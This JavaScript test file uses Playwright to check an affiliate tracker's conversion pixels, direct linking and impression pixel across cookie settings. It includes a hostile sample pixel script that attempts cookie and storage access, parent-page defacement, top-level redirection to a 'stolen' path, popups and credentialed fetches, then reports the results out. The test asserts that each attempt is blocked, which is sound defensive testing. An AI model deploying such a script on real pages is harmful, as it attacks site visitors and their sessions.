// @ts-check
// Conversion pixels on an advertiser's thank-you page, which is of another site than the
// tracker: with cookies and without them, with the affiliate's own pixels, and with a
// pixel that wants more than it may. And direct linking, against a real tracker.

import assert from "node:assert/strict";
import { mkdtemp, mkdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { openContext, startBrowser, startProfile, watchPage } from "./browser.mjs";
import { startShop } from "./third-party.mjs";

/** @type {Awaited<ReturnType<typeof startShop>>} */
let shop;
/** @type {import("playwright-core").Browser} */
let browser;
/** @typedef {"allowed" | "private" | "refused"} Cookies */
/** @type {Awaited<ReturnType<typeof startWith>>} */
let allowing;
/** @type {Awaited<ReturnType<typeof startWith>>} */
let refusing;

before(async () => {
  [shop, browser] = await Promise.all([startShop(), startBrowser()]);
  allowing = await startWith({ cookie_controls_mode: 0 });
  refusing = await startWith({ default_content_setting_values: { cookies: 2 } });
});
after(async () => {
  for (const started of [allowing, refusing]) {
    await started?.context.close();
    if (started) await rm(started.profile, { recursive: true, force: true });
  }
  await browser?.close();
  await shop?.stop();
});

/**
 * A browser whose owner chose what cookies it keeps: only a profile can say so.
 * @param {Record<string, unknown>} profile_settings
 */
async function startWith(profile_settings) {
  const profile = await mkdtemp(join(tmpdir(), "crumb-profile-"));
  await mkdir(join(profile, "Default"));
  await writeFile(join(profile, "Default", "Preferences"), JSON.stringify({ profile: profile_settings }));
  return { context: await startProfile(profile, { ignoreHTTPSErrors: true }), profile };
}

/** The context of a visitor. In a private one Chromium sends no cookies to other sites. @param {Cookies} cookies */
async function contextOf(cookies) {
  if (cookies === "private") return openContext(browser, { ignoreHTTPSErrors: true });
  const { context } = cookies === "allowed" ? allowing : refusing;
  await context.clearCookies();
  return context;
}

let orders = 0;

/**
 * A visitor with an order's number of its own.
 * @param {string} name
 * @param {(visit: { page: import("playwright-core").Page, order: string }) => Promise<void>} body
 * @param {Cookies} [cookies]
 */
function scenario(name, body, cookies = "allowed") {
  test(name, { timeout: 60_000 }, async () => {
    const context = await contextOf(cookies);
    const page = await context.newPage();
    const { failures } = watchPage(page);
    try {
      orders += 1;
      await body({ page, order: `T-${orders}` });
      assert.deepEqual(failures, [], "scripts of the page failed");
    } finally {
      await (cookies === "private" ? context.close() : page.close());
    }
  });
}

/**
 * Follows a tracking link, over https; gives the request id of the landing page's address.
 * @param {import("playwright-core").Page} page
 */
async function follow(page, affiliate = 12) {
  shop.site.publish("/landing", "<!doctype html><title>Shop</title>");
  await page.goto(`${shop.secure}/?a=${affiliate}&c=4001`);
  const id = new URL(page.url()).searchParams.get("reqid");
  assert.match(String(id), /^\d+$/);
  return String(id);
}

/**
 * Shows a thank-you page with a pixel, on the shop's own site.
 * @param {import("playwright-core").Page} page
 * @param {string} pixel
 */
async function thank(page, pixel) {
  shop.site.publish("/thanks", `<!doctype html><title>Thanks</title><body>${pixel}</body>`);
  await page.goto(`${shop.site.origin}/thanks`, { waitUntil: "load" });
}

const FORMS = {
  iframe: (/** @type {string} */ query) => `<iframe src="${shop.secure}/p.ashx?${query}" height="1" width="1" frameborder="0"></iframe>`,
  js: (/** @type {string} */ query) => `<script src="${shop.secure}/p.ashx?${query}&amp;f=js"></script>`,
  img: (/** @type {string} */ query) => `<img src="${shop.secure}/p.ashx?${query}&amp;f=img" width="1" height="1" alt="">`,
};
/** The forms that show an affiliate's own pixels. @type {("iframe" | "js")[]} */
const SHOWING = ["iframe", "js"];

/** The conversion of an order. @param {string} order */
async function conversionOf(order) {
  const { data } = await shop.api("/conversions?limit=100");
  return data.find((/** @type {any} */ row) => row.transaction_id === order);
}

describe("on a third-party page", () => {
  for (const form of /** @type {(keyof typeof FORMS)[]} */ (Object.keys(FORMS))) {
    scenario(`the ${form} pixel is credited by the cookie where cookies are allowed`, async ({ page, order }) => {
      const id = await follow(page);
      await thank(page, FORMS[form](`o=400&amp;t=${order}`));
      const row = await conversionOf(order);
      assert.deepEqual([row.request_id, row.affiliate, row.payout, row.source], [id, 12, "12.00", form]);
    });

    for (const cookies of /** @type {Cookies[]} */ (["private", "refused"])) {
      scenario(
        `the ${form} pixel where cookies are ${cookies} is credited by the request id, and by nothing without it`,
        async ({ page, order }) => {
          const id = await follow(page);
          await thank(page, FORMS[form](`o=400&amp;t=${order}`));
          assert.equal((await shop.logged(order)).disposition, "Invalid Request ID");
          assert.equal(await conversionOf(order), undefined);
          await thank(page, FORMS[form](`o=400&amp;t=${order}&amp;r=${id}`));
          assert.equal((await conversionOf(order)).request_id, id);
        },
        cookies,
      );
    }
  }

  for (const form of SHOWING) {
    scenario(`the affiliate's HTML pixel is loaded from within the ${form} pixel`, async ({ page, order }) => {
      const id = await follow(page);
      await thank(page, FORMS[form](`o=400&amp;t=${order}`));
      const asked = await shop.affiliate.until(({ query }) => query.get("order") === order);
      assert.deepEqual([asked.path, asked.query.get("paid"), asked.query.get("session")], ["/pixel.gif", "12.00", id]);
    });

    scenario(`the affiliate's HTML pixel is loaded once, by the first ${form} pixel after a server's call`, async ({ page, order }) => {
      const id = await follow(page);
      const call = await fetch(`${shop.tracking}/p.ashx?f=pb&o=400&r=${id}&t=${order}`);
      assert.match(await call.text(), /<msg>SUCCESS<\/msg>/);
      for (const _ of [1, 2]) await thank(page, FORMS[form](`o=400&amp;t=${order}`));
      await shop.affiliate.until(({ query }) => query.get("order") === order);
      const loaded = shop.affiliate.asked.filter(({ query }) => query.get("order") === order);
      assert.equal(loaded.length, 1);
    });

    scenario(`a hostile HTML pixel in the ${form} pixel reaches neither the page nor the tracker's cookies`, async ({ page, order }) => {
      shop.affiliate.publish("/hostile.js", hostile(shop.affiliate.origin, shop.secure, order), "text/javascript");
      await follow(page, 13);
      const context = page.context();
      const before = await context.cookies(shop.secure);
      const pages = context.pages().length;
      assert.ok(before.length >= 2, "the tracker has cookies to steal");
      await thank(page, FORMS[form](`o=400&amp;t=${order}`));
      const { query } = await shop.affiliate.until(({ path, query: q }) => path === "/report" && q.get("of") === order);
      const report = Object.fromEntries(query);
      assert.deepEqual(report, {
        of: order,
        origin: "null",
        cookie: "SecurityError",
        storage: "SecurityError",
        parent: "SecurityError",
        top: "SecurityError",
        navigated: "SecurityError",
        opened: "nothing",
        read: "TypeError",
      });
      assert.equal(page.url(), `${shop.site.origin}/thanks`);
      assert.equal(await page.title(), "Thanks");
      assert.equal(context.pages().length, pages);
      assert.deepEqual(await context.cookies(shop.secure), before);
    });
  }
});

/**
 * What a crook's pixel would try; it tells how each ended.
 * @param {string} home
 * @param {string} tracker
 * @param {string} order
 */
function hostile(home, tracker, order) {
  return `(async function () {
  var report = { of: ${JSON.stringify(order)}, origin: String(window.origin) };
  function attempt(name, act) {
    try { report[name] = act() || "nothing"; } catch (error) { report[name] = error.name; }
  }
  attempt("cookie", function () { document.cookie = "crumb_v=x"; return "cookies: " + document.cookie; });
  attempt("storage", function () { return "items: " + localStorage.length; });
  attempt("parent", function () { return parent.document.title; });
  attempt("top", function () { top.document.body.innerHTML = "owned"; return "owned"; });
  attempt("navigated", function () { top.location.href = ${JSON.stringify(home)} + "/stolen"; return "gone"; });
  attempt("opened", function () { var other = window.open(${JSON.stringify(home)} + "/popup"); return other ? "a window" : ""; });
  // With the visitor's cookies, which would name the session.
  await fetch(${JSON.stringify(tracker)} + "/?a=12&c=4001&cp=js", { credentials: "include" })
    .then(function (answer) { return answer.text(); })
    .then(function (text) { report.read = text; }, function (error) { report.read = error.name; });
  new Image().src = ${JSON.stringify(home)} + "/report?" + new URLSearchParams(report);
})();`;
}

describe("direct linking", () => {
  /** @param {import("playwright-core").Page} page @param {string} order @param {string} query */
  async function buy(page, order, query) {
    shop.site.publish("/direct", `<!doctype html><head><title>Shop</title><script src="${shop.secure}/dl.js?days=7"></script></head>`);
    await page.goto(`${shop.site.origin}/direct?${query}`);
    await page.waitForFunction(() => document.cookie.includes("ckm_request_id="));
    const cookies = await page.context().cookies(shop.site.origin);
    const id = cookies.find((cookie) => cookie.name === "ckm_request_id")?.value;
    await thank(page, `<script src="${shop.secure}/cv.js?o=400&amp;t=${order}"></script>`);
    await shop.affiliate.until(({ query: asked }) => asked.get("order") === order);
    return id;
  }

  // Where the tracker's own cookies are sent along, they would do for a conversion that names no session.
  for (const cookies of /** @type {Cookies[]} */ (["allowed", "private"])) {
    scenario(
      `the landing page makes the click, and the thank-you page the conversion, cookies ${cookies}`,
      async ({ page, order }) => {
        const id = await buy(page, order, "a=12&c=4001&s1=search&utm_source=x");
        const row = await conversionOf(order);
        assert.deepEqual([row.request_id, row.affiliate, row.source, row.sub_ids[0]], [id, 12, "js", "search"]);
        const { clicks } = await shop.api(`/clicks/${id}`);
        assert.deepEqual(clicks.map((/** @type {any} */ click) => [click.source, click.disposition]), [["js_pixel", "ok"]]);
      },
      cookies,
    );

    scenario(
      `what a tracking link led to is reported by its request id, cookies ${cookies}`,
      async ({ page, order }) => {
        const id = await follow(page);
        assert.equal(await buy(page, order, `ckm_request_id=${id}`), id);
        assert.equal((await conversionOf(order)).request_id, id);
        assert.equal((await shop.api(`/clicks/${id}`)).clicks.length, 1);
      },
      cookies,
    );
  }
});

describe("the impression pixel", () => {
  scenario("is an image on any page, and counted each time that it is shown", async ({ page }) => {
    const shown = async () => (await shop.api("/impressions?campaign=60")).total;
    const earlier = await shown();
    for (const _ of [1, 2]) {
      await thank(page, `<img id="seen" src="${shop.secure}/i.ashx?a=12&amp;c=4001" width="1" height="1" alt="">`);
      assert.equal(await page.$eval("#seen", (image) => /** @type {HTMLImageElement} */ (image).naturalWidth), 1);
    }
    assert.equal(await shown(), earlier + 2);
    assert.deepEqual(await page.context().cookies(shop.secure), []);
  });
});
